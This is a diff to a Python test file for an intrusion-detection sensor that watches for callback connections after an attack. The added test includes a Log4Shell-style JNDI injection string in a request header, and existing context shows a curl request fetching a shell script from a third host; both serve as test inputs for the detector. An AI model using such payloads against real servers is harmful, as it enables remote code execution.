@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 from sensor.core.addresses import parse
 from sensor.core.alert import Alert, Severity
 from sensor.core.event import Event
@@ -38,6 +40,13 @@ def flows_after(events: list[Event], *servers: str, at: float = 5, first: bool =
     return alerts_of(unit, story.changes(), size)
 
 
+def after(event: Event) -> Any:
+    """The detector once it heard an event, of which it said nothing."""
+    unit = detector(CALLBACK)
+    assert heard(unit, [event]) == []
+    return unit
+
+
 def test_a_connection_to_the_attacker() -> None:
     """However the changes are cut."""
     for size in (1, 1 << 30):
@@ -60,11 +69,13 @@ def test_a_shell_to_a_third_host() -> None:
 
 
 def test_innocent_twins_are_quiet() -> None:
-    """No attack before; long after; another server; a page that the victim reads; machines that call each other."""
+    """No attack before; long after; another server; a page that the victim reads; machines that call each other; one that tests itself."""
     assert flows_after([], ATTACKER) == []
     assert flows_after([attack()], ATTACKER, at=400) == []
     assert flows_after([attack()], OTHER, NAMED) == []
     assert flows_after([request(0, ATTACKER, VICTIM, "/index.html")], ATTACKER) == []
+    own = request(0, VICTIM, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
+    assert alerts_of(after(own), Story().flow(0, VICTIM, VICTIM, 80).flow(1, VICTIM, VICTIM, 80).changes()) == []
     assert (
         heard(detector(CALLBACK), [attack(), request(1, VICTIM, OTHER, "/news", agent="Mozilla/5.0"), request(2, OTHER, NAMED, "/a.sh", agent="curl/8")]) == []
     )
